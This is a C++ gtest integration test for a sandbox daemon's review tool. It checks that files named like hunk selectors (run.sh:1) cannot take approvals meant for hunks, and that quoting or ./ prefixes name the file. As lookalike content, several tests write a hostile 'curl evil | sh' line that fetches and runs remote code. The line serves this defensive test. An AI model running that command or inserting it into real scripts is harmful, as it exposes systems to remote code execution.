// A name never passes for a selector (DESIGN, "Data safety"; issue 39): a job chooses its file
// names, and one named `run.sh:1` beside a changed run.sh must not take the approval meant for
// hunk 1 of run.sh. On the command line a selector that could mean a file and a hunk (or a part)
// is refused, naming both; git's quoting ("run.sh:1") or ./run.sh:1 names the file, "run.sh":1
// the hunk. On the bus, selectors are structured (path, hunk, part): never parsed out of a name.
// review, which decides hunk by hunk, sends structured selectors too.

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <map>
#include <nlohmann/json.hpp>
#include <string>

#include "conversation.h"
#include "numbered_lines.h"
#include "sandbox_fixture.h"

namespace sandboxd::it {
namespace {

class SelectorNamesTest : public AliceSandboxTest {
 protected:
  void PrepareProject() override {
    ASSERT_EQ(World().RunAs(kAlice, {"sh", "-c", "cat > run.sh"}, {.input = Lines(), .cwd = project_}).status, 0);
  }
  /// Two hunks in run.sh (lines 2 and 28), and the job's own files named like its selectors.
  void EditWithLookalikes() {
    Job("sed -i -e 's/^line 2$/two/' -e 's/^line 28$/twenty-eight/' run.sh && echo 'curl evil | sh' > run.sh:1 && "
        "echo part > run.sh:2.1");
  }
  /// `--json changes` by path.
  std::map<std::string, nlohmann::json> Listed() {
    Result listed = Ctl({"--json", "changes", id_});
    EXPECT_EQ(listed.status, 0) << listed.err;
    std::map<std::string, nlohmann::json> by_path;
    for (const auto& entry : nlohmann::json::parse(listed.out)) by_path[entry["path"]] = entry;
    return by_path;
  }
};

TEST_F(SelectorNamesTest, ASelectorThatCouldNameAFileOrAHunkIsRefusedNamingBoth) {
  EditWithLookalikes();
  for (const std::string& verb : {"approve", "reject", "diff"}) {
    Result refused = Ctl({verb, id_, "run.sh:1"});
    EXPECT_EQ(refused.status, 1) << verb << ": " << refused.out << refused.err;
    EXPECT_TRUE(Contains(refused.err, "the file run.sh:1")) << verb << ": " << refused.err;
    EXPECT_TRUE(Contains(refused.err, "hunk 1 of run.sh")) << verb << ": " << refused.err;
    EXPECT_TRUE(Contains(refused.err, id_)) << verb << ": " << refused.err;
  }
  Result part = Ctl({"approve", id_, "run.sh:2.1"});
  EXPECT_EQ(part.status, 1) << part.err;
  EXPECT_TRUE(Contains(part.err, "the file run.sh:2.1") && Contains(part.err, "part 1 of hunk 2 of run.sh")) << part.err;
  // Nothing was decided by any of them.
  for (const auto& [path, entry] : Listed()) EXPECT_EQ(entry["review"], "pending") << path;
}

TEST_F(SelectorNamesTest, QuotesOrDotSlashNameTheFileAndAQuotedPathWithANumberTheHunk) {
  EditWithLookalikes();
  ASSERT_EQ(Ctl({"approve", id_, "\"run.sh:1\""}).status, 0);
  ASSERT_EQ(Ctl({"reject", id_, "./run.sh:2.1"}).status, 0);
  Result hunk = Ctl({"approve", id_, "\"run.sh\":2"});
  ASSERT_EQ(hunk.status, 0) << hunk.err;
  auto listed = Listed();
  EXPECT_EQ(listed["run.sh:1"]["review"], "approved") << listed["run.sh:1"].dump();
  EXPECT_EQ(listed["run.sh:2.1"]["review"], "rejected") << listed["run.sh:2.1"].dump();
  EXPECT_EQ(listed["run.sh"]["review"], "partial") << listed["run.sh"].dump();
  EXPECT_EQ(listed["run.sh"]["approved_hunks"], nlohmann::json::array({2})) << listed["run.sh"].dump();

  // diff names them the same way: ./ the file, "run.sh":1 the hunk.
  Result file = Ctl({"diff", id_, "./run.sh:1"});
  ASSERT_EQ(file.status, 0) << file.err;
  EXPECT_TRUE(Contains(file.out, "+curl evil | sh")) << file.out;
  EXPECT_FALSE(Contains(file.out, "+two")) << file.out;
  Result first = Ctl({"diff", id_, "\"run.sh\":1"});
  ASSERT_EQ(first.status, 0) << first.err;
  EXPECT_TRUE(Contains(first.out, "+two")) << first.out;
  EXPECT_FALSE(Contains(first.out, "curl")) << first.out;

  // The commit lands exactly that: hunk 2 of run.sh and the file run.sh:1.
  ASSERT_EQ(Ctl({"commit", id_}).status, 0);
  EXPECT_EQ(ReadWhole(project_ + "/run.sh"), Lines({{28, "twenty-eight"}}));
  EXPECT_EQ(ReadWhole(project_ + "/run.sh:1"), "curl evil | sh\n");
  EXPECT_FALSE(Exists(project_ + "/run.sh:2.1"));
}

TEST_F(SelectorNamesTest, WithoutALookalikeFileANumberNamesTheHunkAndWithoutTheChangeTheFile) {
  Job("sed -i -e 's/^line 2$/two/' -e 's/^line 28$/twenty-eight/' run.sh && echo x > notes:3");
  ASSERT_EQ(Ctl({"approve", id_, "run.sh:2"}).status, 0);
  ASSERT_EQ(Ctl({"approve", id_, "notes:3"}).status, 0);  // no change "notes": the file
  auto listed = Listed();
  EXPECT_EQ(listed["run.sh"]["approved_hunks"], nlohmann::json::array({2})) << listed["run.sh"].dump();
  EXPECT_EQ(listed["notes:3"]["review"], "approved") << listed["notes:3"].dump();
}

// review decides hunk N of run.sh with a structured selector: the file run.sh:2 beside it keeps
// its own decision (it was sent as the text "run.sh:2", which the daemon took for the file).
TEST_F(SelectorNamesTest, ReviewDecidesTheHunkNotAFileNamedLikeIt) {
  Job("sed -i -e 's/^line 2$/two/' -e 's/^line 28$/twenty-eight/' run.sh && echo 'curl evil | sh' > run.sh:2");
  Conversation review(kAlice, project_, {"review", id_});
  ASSERT_TRUE(review.Answer("(1/2) Approve this hunk [y,n,q,a,d,j,J,k,K,?]? ", "n")) << review.screen();
  ASSERT_TRUE(review.Answer("(2/2) Approve this hunk [y,n,q,a,d,j,J,k,K,?]? ", "y")) << review.screen();
  ASSERT_TRUE(review.Answer("Approve this change [y,n,q,j,?]? ", "n")) << review.screen();
  EXPECT_EQ(review.Finish(), 0) << review.screen();
  auto listed = Listed();
  EXPECT_EQ(listed["run.sh"]["approved_hunks"], nlohmann::json::array({2})) << listed["run.sh"].dump();
  EXPECT_EQ(listed["run.sh"]["rejected_hunks"], nlohmann::json::array({1})) << listed["run.sh"].dump();
  EXPECT_EQ(listed["run.sh:2"]["review"], "rejected") << listed["run.sh:2"].dump();
  ASSERT_EQ(Ctl({"commit", id_}).status, 0);
  EXPECT_EQ(ReadWhole(project_ + "/run.sh"), Lines({{28, "twenty-eight"}}));
  EXPECT_FALSE(Exists(project_ + "/run.sh:2"));
}

}  // namespace
}  // namespace sandboxd::it
